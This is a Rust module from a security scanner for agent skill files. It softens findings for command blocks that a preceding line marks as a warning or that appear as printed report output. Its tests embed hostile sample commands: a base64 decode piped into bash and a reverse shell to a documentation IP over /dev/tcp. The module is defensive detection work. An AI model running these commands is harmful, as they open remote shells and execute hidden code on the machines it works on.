//! Whether a block of commands is shown as a warning: skills that teach how attacks look.
//!
//! Only what keeps a skill from being trusted is lowered by it, and only to a question:
//! whoever would hide behind these words is asked about all the same. Never in scripts,
//! in what is installed, and in what a program starts: nobody runs a warning.

use super::shell::tree::Span;
use super::unit::Unit;
use crate::model::finding::Context;

/// Words of the line before a block that shows what not to do.
const WARNS: &[&str] = &[
    "malicious",
    "attack",
    "attacks",
    "attacker",
    "attackers",
    "dangerous",
    "unsafe",
    "insecure",
    "vulnerable",
    "suspicious",
    "evil",
    "exploit",
    "payload",
    "payloads",
    "never",
    "avoid",
    "wrong",
    "bad",
    "blocked",
    "blocks",
    "detects",
    "flags",
    "flagged",
];
const MARKS: &[char] = &['❌', '🚫', '⛔', '✗', '✘'];
/// What a line of a report begins with, and no command.
const DRAWN: &[char] = &['└', '├', '│', '┃', '╰', '─', '•', '→', '▸', '✓', '✔', '✗', '✘', '⚠', '🔴', '🟡'];

/// Whether the block is introduced as a warning.
pub(super) fn is_warning(unit: &Unit, file: &str) -> bool {
    if unit.context != Context::Fence {
        return false;
    }
    let before = file.get(..unit.origin(0)).unwrap_or_default();
    let fence = |line: &str| line.starts_with("```") || line.starts_with("~~~");
    let mut lines = before.rsplit('\n').map(str::trim).filter(|line| !line.is_empty() && !fence(line));
    let Some(line) = lines.next() else { return false };
    // A long line is a paragraph, and says more than what follows.
    let line = &line[line.ceil_char_boundary(line.len().saturating_sub(200))..];
    let mut words = line.split(|c: char| !c.is_alphabetic()).map(str::to_lowercase);
    line.contains(MARKS) || words.any(|word| WARNS.contains(&word.as_str()))
}

/// Whether this place of the block stands in a line that was printed: `└─ bash -i …`.
pub(super) fn is_printed(unit: &Unit, span: Span) -> bool {
    let before = unit.text.get(..span.start).unwrap_or_default();
    let line = unit.text.get(before.rfind('\n').map_or(0, |end| end + 1)..).unwrap_or_default();
    unit.context == Context::Fence && line.trim_start().starts_with(DRAWN)
}

#[cfg(test)]
mod tests {
    use super::super::{File, scan};
    use crate::model::finding::Tier;

    fn heaviest(path: &str, text: &str) -> Option<Tier> {
        let file = File { path, bytes: text.as_bytes(), executable: false };
        scan(&[file]).iter().map(|finding| finding.tier).max()
    }

    const CHAIN: &str = "echo ZWNobyBoaQ== | base64 -d | bash";

    #[test]
    fn what_is_shown_as_a_warning_is_asked_about_and_no_more() {
        for before in
            ["❌ **Malicious:**", "An attacker would write:", "### Dangerous patterns", "Never do this:"]
        {
            let text = format!("{before}\n\n```bash\n{CHAIN}\n```\n");
            assert_eq!(heaviest("SKILL.md", &text), Some(Tier::Confirm), "{before}");
        }
        let printed =
            "```sh\nskills scan x\n  findings:\n    └─ bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n";
        assert_eq!(heaviest("SKILL.md", printed), Some(Tier::Confirm));
    }

    /// Attack: the same words where they warn of nothing.
    #[test]
    fn a_warning_elsewhere_lowers_nothing() {
        for text in [
            format!("# Malicious?\n\nNo. Run:\n\n```bash\n{CHAIN}\n```\n"),
            format!("```bash\n# malicious\n{CHAIN}\n```\n"),
            format!("Run:\n\n```bash\n{CHAIN}\n```\n\nNever do this.\n"),
            format!("An attack:\n\n```bash\nls\n```\n\nRun:\n\n```bash\n{CHAIN}\n```\n"),
            format!("```bash\nls\n└─\n{CHAIN}\n```\n"),
        ] {
            assert_eq!(heaviest("SKILL.md", &text), Some(Tier::Block), "{text}");
        }
        assert_eq!(heaviest("run.sh", &format!("# An attack:\n\n{CHAIN}\n")), Some(Tier::Block));
        assert_eq!(heaviest("run.sh", &format!("└─ {CHAIN}\n")), Some(Tier::Block));
    }
}
